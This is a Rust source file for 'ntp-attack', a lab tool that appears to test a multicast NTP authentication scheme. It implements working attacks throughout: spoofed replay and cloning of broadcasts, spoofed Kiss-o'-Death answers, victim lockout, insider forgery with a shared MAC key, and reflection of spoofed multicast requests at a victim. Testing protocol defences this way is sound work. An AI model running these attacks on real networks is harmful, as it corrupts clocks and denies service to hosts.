//! `ntp-attack`: a LAN host without any key attacking multicast NTP
//! clients and servers by spoofing source addresses (raw sockets) and
//! sniffing the LAN (`AF_PACKET`). Every mode stops after `--count`
//! packets or `--duration-s` seconds (both bounded) and prints a one-line
//! JSON [`Summary`] of what it sent.
//!
//! For lab namespaces only: run it in a host of a test's own Lan.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::path::PathBuf;
use std::process::ExitCode;
use std::time::{Duration, Instant};

use clap::{Args, Parser, Subcommand, ValueEnum};
use mcast_lab::attack::{
    Bounds, Seen, Sniffer, Spoofer, Summary, forged_reply, kod, mode, poll, request, sleep_until,
    transmit,
};
use mcast_lab::netns::read_pcap_udp;
use mcast_proto::ExtensionField;

/// Keyless attacker of the namespace lab.
#[derive(Parser, Debug)]
#[command(version)]
struct Cli {
    #[command(subcommand)]
    mode: Mode,
}

/// Limits shared by every mode.
#[derive(Args, Debug, Clone)]
struct Limits {
    /// Stop after sending this many packets (at most 100000).
    #[arg(long, default_value_t = 1000)]
    count: u64,
    /// Stop after this many seconds (at most 600).
    #[arg(long, default_value_t = 60)]
    duration_s: u64,
    /// The LAN interface (its MAC marks our own frames).
    #[arg(long, default_value = "eth0")]
    iface: String,
}

#[derive(Subcommand, Debug)]
enum Mode {
    /// Record a server's broadcasts, then re-send them (oldest first) with
    /// its source address, each just before its next genuine broadcast.
    Replay {
        #[command(flatten)]
        limits: Limits,
        /// The server whose broadcasts to replay.
        #[arg(long)]
        server: Ipv4Addr,
        /// The group they go to.
        #[arg(long, default_value = "224.0.1.1")]
        group: Ipv4Addr,
        /// Broadcasts to record live before replaying.
        #[arg(long, default_value_t = 8)]
        record: u64,
        /// Replay this long before the next genuine broadcast is due.
        #[arg(long, default_value_t = 40)]
        lead_ms: u64,
        /// Old packets sent back to back in the first slot (a backstep
        /// "confirmed" by count alone), then one per slot.
        #[arg(long, default_value_t = 4)]
        burst: usize,
    },
    /// Feed a recording (a pcap) of a server's broadcasts to the group at
    /// the server's poll cadence, with its source address.
    ReplayStartup {
        #[command(flatten)]
        limits: Limits,
        /// The server whose broadcasts to replay.
        #[arg(long)]
        server: Ipv4Addr,
        /// The recording.
        #[arg(long)]
        pcap: PathBuf,
        /// Time between replayed packets (default: 2^poll of the packets).
        #[arg(long)]
        interval_ms: Option<u64>,
    },
    /// Answer every calibration request a client sends a server at once,
    /// from the server's address: an unsigned KoD, or forged replies.
    Kod {
        #[command(flatten)]
        limits: Limits,
        /// The server the requests go to.
        #[arg(long)]
        server: Ipv4Addr,
        /// Only requests from this client.
        #[arg(long)]
        client: Option<Ipv4Addr>,
        /// Kiss code.
        #[arg(long, value_enum, default_value_t = Code::Deny)]
        code: Code,
        /// What to answer with.
        #[arg(long, value_enum, default_value_t = Answer::Kod)]
        answer: Answer,
        /// Packets per request (at most 1000).
        #[arg(long, default_value_t = 1)]
        per_request: u32,
    },
    /// Unsigned requests to a server in a victim's name, `--rate` a second.
    Lockout {
        #[command(flatten)]
        limits: Limits,
        /// The server.
        #[arg(long)]
        server: Ipv4Addr,
        /// The victim whose address the requests carry.
        #[arg(long)]
        victim: Ipv4Addr,
        /// The victim's source port.
        #[arg(long, default_value_t = 123)]
        victim_port: u16,
        /// Requests per second (at most 100).
        #[arg(long, default_value_t = 2.0)]
        rate: f64,
    },
    /// Relay a server's broadcasts from spoofed addresses no host uses.
    Clone {
        #[command(flatten)]
        limits: Limits,
        /// The server to clone.
        #[arg(long)]
        server: Ipv4Addr,
        /// The group.
        #[arg(long, default_value = "224.0.1.1")]
        group: Ipv4Addr,
        /// A source address to relay from (repeat).
        #[arg(long = "from", required = true)]
        from: Vec<Ipv4Addr>,
    },
    /// An insider: a host that holds the server's MAC key (as every client
    /// does) forges the server's broadcasts with valid MACs, each
    /// `--shift-ms` off, sent just before the next genuine one. It cannot
    /// make the server's Ed25519 signature: it keeps the genuine field, so
    /// the packet looks signed but the signature no longer matches.
    Insider {
        #[command(flatten)]
        limits: Limits,
        /// The server to impersonate.
        #[arg(long)]
        server: Ipv4Addr,
        /// The group.
        #[arg(long, default_value = "224.0.1.1")]
        group: Ipv4Addr,
        /// The keys file holding the server's MAC key.
        #[arg(long)]
        keys: PathBuf,
        /// The server's key id.
        #[arg(long)]
        key: u32,
        /// How far the forged transmit times are off (positive: ahead).
        #[arg(long, default_value_t = 500, allow_hyphen_values = true)]
        shift_ms: i64,
        /// Send this long before the next genuine broadcast is due.
        #[arg(long, default_value_t = 40)]
        lead_ms: u64,
    },
    /// An on-path insider against calibration: it holds the server's MAC
    /// key and sees every request, so it answers each at once from the
    /// server's address with a reply that echoes the cookie, carries a
    /// valid MAC and times `--shift-ms` off. It cannot make the server's
    /// signature, so the replies take turns: no signature field, a field
    /// with its own key's fingerprint, and one with the server's
    /// (`--public-key`); both fields carry a signature made once in advance
    /// for another header, so no reply waits for a signature and each
    /// leaves before the server's genuine one.
    InsiderReply {
        #[command(flatten)]
        limits: Limits,
        /// The server the requests go to.
        #[arg(long)]
        server: Ipv4Addr,
        /// Only requests from this client.
        #[arg(long)]
        client: Option<Ipv4Addr>,
        /// The keys file holding the server's MAC key.
        #[arg(long)]
        keys: PathBuf,
        /// The server's key id.
        #[arg(long)]
        key: u32,
        /// The server's public key line (`ed25519:...`), for its fingerprint.
        #[arg(long)]
        public_key: String,
        /// How far the forged receive and transmit times are off.
        #[arg(long, default_value_t = 500, allow_hyphen_values = true)]
        shift_ms: i64,
    },
    /// Re-send each of a server's broadcasts to `--from-group`, unchanged
    /// and from its address, into `--to-group` at once (a replay into
    /// another group: its signature names the group it was sent to).
    Regroup {
        #[command(flatten)]
        limits: Limits,
        /// The server whose broadcasts to move.
        #[arg(long)]
        server: Ipv4Addr,
        /// The group it sends to.
        #[arg(long, default_value = "224.0.1.1")]
        from_group: Ipv4Addr,
        /// The group to re-send into.
        #[arg(long)]
        to_group: Ipv4Addr,
    },
    /// Spoofed requests in a victim's name to a multicast or broadcast
    /// address, so every server there answers the victim.
    McastRequest {
        #[command(flatten)]
        limits: Limits,
        /// The victim.
        #[arg(long)]
        victim: Ipv4Addr,
        /// The victim's port.
        #[arg(long, default_value_t = 123)]
        victim_port: u16,
        /// Where to send (repeat): a group or a subnet broadcast address.
        #[arg(long = "to", required = true)]
        to: Vec<Ipv4Addr>,
        /// Time between rounds.
        #[arg(long, default_value_t = 500)]
        interval_ms: u64,
    },
}

#[derive(Debug, Clone, Copy, ValueEnum)]
enum Code {
    Deny,
    Rstr,
    Rate,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Answer {
    /// A Kiss-o'-Death.
    Kod,
    /// Forged replies echoing the cookie, each signed under a different
    /// key id nobody has.
    UnknownKey,
}

const NTP: u16 = 123;

fn main() -> ExitCode {
    let cli = Cli::parse();
    let started = Instant::now();
    match run(cli.mode) {
        Ok(mut s) => {
            s.elapsed_s = started.elapsed().as_secs_f64();
            match serde_json::to_string(&s) {
                Ok(line) => println!("{line}"),
                Err(e) => eprintln!("ntp-attack: {e}"),
            }
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("ntp-attack: {e}");
            ExitCode::FAILURE
        }
    }
}

fn bounds(l: &Limits) -> Result<Bounds, String> {
    Bounds::new(l.count, Duration::from_secs(l.duration_s))
}

fn io<T>(what: &str, r: std::io::Result<T>) -> Result<T, String> {
    r.map_err(|e| format!("{what}: {e}"))
}

fn summary(mode: &str) -> Summary {
    Summary {
        mode: mode.into(),
        ..Summary::default()
    }
}

/// A genuine broadcast of `server` to `group`: newer than any seen (our
/// own replays are older, and our frames are left out by MAC anyway).
/// 2^poll of a broadcast (poll 6 when it has none that parses).
fn interval(payload: &[u8]) -> Duration {
    Duration::from_secs_f64(2f64.powi(i32::from(poll(payload).unwrap_or(6).clamp(0, 17))))
}

fn genuine(s: &Seen, server: Ipv4Addr, group: Ipv4Addr, newest: u64) -> Option<u64> {
    let t = transmit(&s.payload)?;
    (*s.src.ip() == server && *s.dst.ip() == group && mode(&s.payload) == Some(5) && t > newest)
        .then_some(t)
}

fn run(mode: Mode) -> Result<Summary, String> {
    match mode {
        Mode::Replay {
            limits,
            server,
            group,
            record,
            lead_ms,
            burst,
        } => replay(
            &limits,
            server,
            group,
            (record, burst),
            Duration::from_millis(lead_ms),
        ),
        Mode::ReplayStartup {
            limits,
            server,
            pcap,
            interval_ms,
        } => replay_startup(&limits, server, &pcap, interval_ms),
        Mode::Kod {
            limits,
            server,
            client,
            code,
            answer,
            per_request,
        } => answer_requests(&limits, server, client, code, answer, per_request),
        Mode::Lockout {
            limits,
            server,
            victim,
            victim_port,
            rate,
        } => lockout(
            &limits,
            server,
            SocketAddrV4::new(victim, victim_port),
            rate,
        ),
        Mode::Clone {
            limits,
            server,
            group,
            from,
        } => clone(&limits, server, group, &from),
        Mode::Insider {
            limits,
            server,
            group,
            keys,
            key,
            shift_ms,
            lead_ms,
        } => insider(
            &limits,
            (server, group),
            (&keys, key),
            shift_ms,
            Duration::from_millis(lead_ms),
        ),
        Mode::InsiderReply {
            limits,
            server,
            client,
            keys,
            key,
            public_key,
            shift_ms,
        } => insider_reply(
            &limits,
            (server, client),
            (&keys, key),
            &public_key,
            shift_ms,
        ),
        Mode::Regroup {
            limits,
            server,
            from_group,
            to_group,
        } => regroup(&limits, server, from_group, to_group),
        Mode::McastRequest {
            limits,
            victim,
            victim_port,
            to,
            interval_ms,
        } => mcast_request(
            &limits,
            SocketAddrV4::new(victim, victim_port),
            &to,
            Duration::from_millis(interval_ms),
        ),
    }
}

/// `server`'s broadcast `genuine` with its transmit time moved to our
/// clock plus `shift_ms` and its MAC made again with `key`.
fn forge(genuine: &[u8], shift_ms: i64, key: &mcast_keys::Key) -> Option<Vec<u8>> {
    let mut d = mcast_proto::Datagram::parse(genuine).ok()?;
    let shift = mcast_proto::NtpDuration::from_seconds_f64(shift_ms as f64 / 1000.0);
    d.header.transmit = mcast_proto::NtpTimestamp::from_bits(mcast_lab::attack::ntp_now()) + shift;
    let mut out = Vec::new();
    mcast_keys::packet::sign(key, &d, &mut out);
    Some(out)
}

fn insider(
    l: &Limits,
    (server, group): (Ipv4Addr, Ipv4Addr),
    (keys, key_id): (&std::path::Path, u32),
    shift_ms: i64,
    lead: Duration,
) -> Result<Summary, String> {
    let store = mcast_keys::KeyStore::load(keys).map_err(|e| e.to_string())?;
    let key = mcast_keys::KeyId::new(key_id)
        .and_then(|id| store.get(id))
        .ok_or_else(|| format!("key {key_id} is not in {}", keys.display()))?
        .clone();
    let b = bounds(l)?;
    let mut sniff = io("packet socket", Sniffer::new(&l.iface))?;
    let spoof = io("raw socket", Spoofer::new())?;
    eprintln!("ntp-attack: listening");
    let mut s = summary("insider");
    let (src, dst) = (
        SocketAddrV4::new(server, NTP),
        SocketAddrV4::new(group, NTP),
    );
    let mut newest = 0u64;
    let mut latest: Option<Vec<u8>> = None;
    let mut due: Option<Instant> = None;
    while b.more(s.sent) {
        let wait = due.map_or(b.until(), |d| d.min(b.until()));
        match io("sniff", sniff.next_until(wait))? {
            Some(p) => {
                let Some(t) = genuine(&p, server, group, newest) else {
                    continue;
                };
                newest = t;
                s.seen += 1;
                due = Some(p.at + interval(&p.payload).saturating_sub(lead));
                latest = Some(p.payload);
            }
            None => {
                if let (Some(d), Some(g)) = (due, &latest)
                    && Instant::now() >= d
                {
                    if let Some(forged) = forge(g, shift_ms, &key) {
                        io("send", spoof.send(src, dst, &forged))?;
                        s.sent += 1;
                    }
                    due = None;
                }
            }
        }
    }
    Ok(s)
}

/// A reply to the request `request` echoing its cookie, `shift_ms` off
/// our clock, with signature field variant `turn % 3` (see
/// [`Mode::InsiderReply`]) and a valid MAC under `key`.
fn forged_signed_reply(
    request: &[u8],
    shift_ms: i64,
    turn: u64,
    server_fp: mcast_keys::signed::Fingerprint,
    own: &ExtensionField,
    key: &mcast_keys::Key,
) -> Option<Vec<u8>> {
    use mcast_proto::{Datagram, Header, Mode as NtpMode, NtpTimestamp, RefId};
    let req = Datagram::parse(request).ok()?;
    let shift = mcast_proto::NtpDuration::from_seconds_f64(shift_ms as f64 / 1000.0);
    let now = NtpTimestamp::from_bits(mcast_lab::attack::ntp_now()) + shift;
    let mut h = Header::new(NtpMode::Server);
    h.stratum = 2;
    h.poll = req.header.poll;
    h.precision = mcast_proto::Log2Seconds(-20);
    h.reference_id = RefId::from_code("LIAR");
    h.reference = now;
    h.origin = req.header.transmit;
    h.receive = now;
    h.transmit = now;
    let mut d = Datagram::new(h);
    // The field of a reply signed by our own key once, in advance, its
    // signature left as it is: no signing per reply, so the forgery is out
    // before the server's genuine (signed) reply. The client refuses it on
    // the fingerprint (ours) or, relabelled with the server's, on the
    // signature: either way before anything else.
    let field = |fp: Option<mcast_keys::signed::Fingerprint>| {
        let mut value = own.value.clone();
        if let (Some(fp), Some(at)) = (fp, value.get_mut(4..12)) {
            at.copy_from_slice(&fp.0);
        }
        ExtensionField {
            field_type: mcast_keys::signed::FIELD_TYPE,
            value,
        }
    };
    match turn % 3 {
        0 => {}
        1 => d.extensions.push(field(None)),
        _ => d.extensions.push(field(Some(server_fp))),
    }
    let mut out = Vec::new();
    mcast_keys::packet::sign(key, &d, &mut out);
    Some(out)
}

fn insider_reply(
    l: &Limits,
    (server, client): (Ipv4Addr, Option<Ipv4Addr>),
    (keys, key_id): (&std::path::Path, u32),
    public_key: &str,
    shift_ms: i64,
) -> Result<Summary, String> {
    let store = mcast_keys::KeyStore::load(keys).map_err(|e| e.to_string())?;
    let key = mcast_keys::KeyId::new(key_id)
        .and_then(|id| store.get(id))
        .ok_or_else(|| format!("key {key_id} is not in {}", keys.display()))?
        .clone();
    let server_fp = mcast_keys::signed::PublicKey::parse(public_key)
        .map_err(|e| e.to_string())?
        .fingerprint();
    let own = mcast_keys::signed::ServerKey::from_seed(&[0x1e; 32]).sign_reply_field(
        &mcast_proto::Datagram::new(mcast_proto::Header::new(mcast_proto::Mode::Server))
            .header
            .to_bytes(),
    );
    let b = bounds(l)?;
    let mut sniff = io("packet socket", Sniffer::new(&l.iface))?;
    let spoof = io("raw socket", Spoofer::new())?;
    eprintln!("ntp-attack: listening");
    let mut s = summary("insider-reply");
    while b.more(s.sent) {
        let Some(p) = io("sniff", sniff.next_until(b.until()))? else {
            break;
        };
        let wanted = *p.dst.ip() == server
            && p.dst.port() == NTP
            && client.is_none_or(|c| c == *p.src.ip())
            && mode(&p.payload) == Some(3);
        if !wanted {
            continue;
        }
        s.seen += 1;
        if let Some(bytes) =
            forged_signed_reply(&p.payload, shift_ms, s.sent, server_fp, &own, &key)
        {
            io(
                "send",
                spoof.send(SocketAddrV4::new(server, NTP), p.src, &bytes),
            )?;
            s.sent += 1;
        }
    }
    Ok(s)
}

fn regroup(
    l: &Limits,
    server: Ipv4Addr,
    from_group: Ipv4Addr,
    to_group: Ipv4Addr,
) -> Result<Summary, String> {
    let b = bounds(l)?;
    let mut sniff = io("packet socket", Sniffer::new(&l.iface))?;
    let spoof = io("raw socket", Spoofer::new())?;
    eprintln!("ntp-attack: listening");
    let mut s = summary("regroup");
    let (src, dst) = (
        SocketAddrV4::new(server, NTP),
        SocketAddrV4::new(to_group, NTP),
    );
    let mut newest = 0u64;
    while b.more(s.sent) {
        let Some(p) = io("sniff", sniff.next_until(b.until()))? else {
            break;
        };
        let Some(t) = genuine(&p, server, from_group, newest) else {
            continue;
        };
        newest = t;
        s.seen += 1;
        io("send", spoof.send(src, dst, &p.payload))?;
        s.sent += 1;
    }
    Ok(s)
}

fn replay(
    l: &Limits,
    server: Ipv4Addr,
    group: Ipv4Addr,
    (record, burst): (u64, usize),
    lead: Duration,
) -> Result<Summary, String> {
    let b = bounds(l)?;
    let mut sniff = io("packet socket", Sniffer::new(&l.iface))?;
    let spoof = io("raw socket", Spoofer::new())?;
    eprintln!("ntp-attack: listening");
    let mut s = summary("replay");
    let mut recorded: Vec<Vec<u8>> = Vec::new();
    let mut newest = 0u64;
    let mut last: Option<Instant> = None;
    let mut gap: Option<Duration> = None;
    let mut due: Option<Instant> = None;
    let mut next = 0usize;
    let src = SocketAddrV4::new(server, NTP);
    let dst = SocketAddrV4::new(group, NTP);
    while b.more(s.sent) && (recorded.len() < record as usize || next < recorded.len()) {
        let wait = due.map_or(b.until(), |d| d.min(b.until()));
        match io("sniff", sniff.next_until(wait))? {
            Some(p) => {
                let Some(t) = genuine(&p, server, group, newest) else {
                    continue;
                };
                newest = t;
                s.seen += 1;
                // The genuine schedule: the shortest gap seen (never less
                // than 2^poll), else 2^poll.
                let nominal = interval(&p.payload);
                if let Some(prev) = last {
                    let g = p.at.duration_since(prev).max(nominal);
                    gap = Some(gap.map_or(g, |old: Duration| old.min(g)));
                }
                last = Some(p.at);
                if recorded.len() < record as usize {
                    recorded.push(p.payload);
                    s.recorded += 1;
                } else {
                    due = Some(p.at + gap.unwrap_or(nominal).saturating_sub(lead));
                }
            }
            None => {
                if let Some(d) = due
                    && Instant::now() >= d
                {
                    let n = if next == 0 { burst.max(1) } else { 1 };
                    for _ in 0..n {
                        if let Some(old) = recorded.get(next)
                            && b.more(s.sent)
                        {
                            io("send", spoof.send(src, dst, old))?;
                            s.sent += 1;
                            next += 1;
                        }
                    }
                    due = None;
                }
            }
        }
    }
    Ok(s)
}

fn replay_startup(
    l: &Limits,
    server: Ipv4Addr,
    pcap: &std::path::Path,
    interval_ms: Option<u64>,
) -> Result<Summary, String> {
    let b = bounds(l)?;
    let spoof = io("raw socket", Spoofer::new())?;
    let mut s = summary("replay-startup");
    let packets: Vec<_> = io("read the recording", read_pcap_udp(pcap))?
        .into_iter()
        .filter(|d| d.src.ip() == std::net::IpAddr::V4(server) && mode(&d.payload) == Some(5))
        .collect();
    s.recorded = packets.len() as u64;
    let mut at = Instant::now();
    for d in &packets {
        if !b.more(s.sent) {
            break;
        }
        let std::net::SocketAddr::V4(dst) = d.dst else {
            continue;
        };
        sleep_until(at);
        io(
            "send",
            spoof.send(SocketAddrV4::new(server, NTP), dst, &d.payload),
        )?;
        s.sent += 1;
        let nominal = 1000u64 << poll(&d.payload).unwrap_or(6).clamp(0, 17);
        at += Duration::from_millis(interval_ms.unwrap_or(nominal));
    }
    Ok(s)
}

fn answer_requests(
    l: &Limits,
    server: Ipv4Addr,
    client: Option<Ipv4Addr>,
    code: Code,
    answer: Answer,
    per_request: u32,
) -> Result<Summary, String> {
    if per_request > 1000 {
        return Err("--per-request is at most 1000".into());
    }
    let b = bounds(l)?;
    let mut sniff = io("packet socket", Sniffer::new(&l.iface))?;
    let spoof = io("raw socket", Spoofer::new())?;
    eprintln!("ntp-attack: listening");
    let mut s = summary("kod");
    let code = match code {
        Code::Deny => *b"DENY",
        Code::Rstr => *b"RSTR",
        Code::Rate => *b"RATE",
    };
    let mut key_id = 1000u32;
    while b.more(s.sent) {
        let Some(p) = io("sniff", sniff.next_until(b.until()))? else {
            break;
        };
        let wanted = *p.dst.ip() == server
            && p.dst.port() == NTP
            && client.is_none_or(|c| c == *p.src.ip())
            && mode(&p.payload) == Some(3);
        let Some(cookie) = transmit(&p.payload).filter(|_| wanted) else {
            continue;
        };
        s.seen += 1;
        let from = SocketAddrV4::new(server, NTP);
        for _ in 0..per_request {
            if !b.more(s.sent) {
                break;
            }
            let bytes = match answer {
                Answer::Kod => kod(cookie, code, poll(&p.payload).unwrap_or(6)),
                Answer::UnknownKey => {
                    key_id = key_id.wrapping_add(1);
                    forged_reply(cookie, key_id)
                }
            };
            io("send", spoof.send(from, p.src, &bytes))?;
            s.sent += 1;
        }
    }
    Ok(s)
}

fn lockout(
    l: &Limits,
    server: Ipv4Addr,
    victim: SocketAddrV4,
    rate: f64,
) -> Result<Summary, String> {
    if !(rate > 0.0 && rate <= 100.0) {
        return Err("--rate must be in (0, 100]".into());
    }
    let b = bounds(l)?;
    let spoof = io("raw socket", Spoofer::new())?;
    let mut s = summary("lockout");
    let every = Duration::from_secs_f64(1.0 / rate);
    let mut at = Instant::now();
    while b.more(s.sent) {
        io(
            "send",
            spoof.send(victim, SocketAddrV4::new(server, NTP), &request(6)),
        )?;
        s.sent += 1;
        at += every;
        if at >= b.until() {
            break;
        }
        sleep_until(at);
    }
    Ok(s)
}

fn clone(
    l: &Limits,
    server: Ipv4Addr,
    group: Ipv4Addr,
    from: &[Ipv4Addr],
) -> Result<Summary, String> {
    if from.len() > 64 {
        return Err("at most 64 --from addresses".into());
    }
    let b = bounds(l)?;
    let mut sniff = io("packet socket", Sniffer::new(&l.iface))?;
    let spoof = io("raw socket", Spoofer::new())?;
    eprintln!("ntp-attack: listening");
    let mut s = summary("clone");
    let mut newest = 0u64;
    while b.more(s.sent) {
        let Some(p) = io("sniff", sniff.next_until(b.until()))? else {
            break;
        };
        let Some(t) = genuine(&p, server, group, newest) else {
            continue;
        };
        newest = t;
        s.seen += 1;
        for a in from {
            if !b.more(s.sent) {
                break;
            }
            io(
                "send",
                spoof.send(SocketAddrV4::new(*a, NTP), p.dst, &p.payload),
            )?;
            s.sent += 1;
        }
    }
    Ok(s)
}

fn mcast_request(
    l: &Limits,
    victim: SocketAddrV4,
    to: &[Ipv4Addr],
    interval: Duration,
) -> Result<Summary, String> {
    let b = bounds(l)?;
    let spoof = io("raw socket", Spoofer::new())?;
    let mut s = summary("mcast-request");
    let mut at = Instant::now();
    'rounds: while b.more(s.sent) {
        for dst in to {
            if !b.more(s.sent) {
                break 'rounds;
            }
            io(
                "send",
                spoof.send(victim, SocketAddrV4::new(*dst, NTP), &request(6)),
            )?;
            s.sent += 1;
        }
        at += interval.max(Duration::from_millis(10));
        if at >= b.until() {
            break;
        }
        sleep_until(at);
    }
    Ok(s)
}
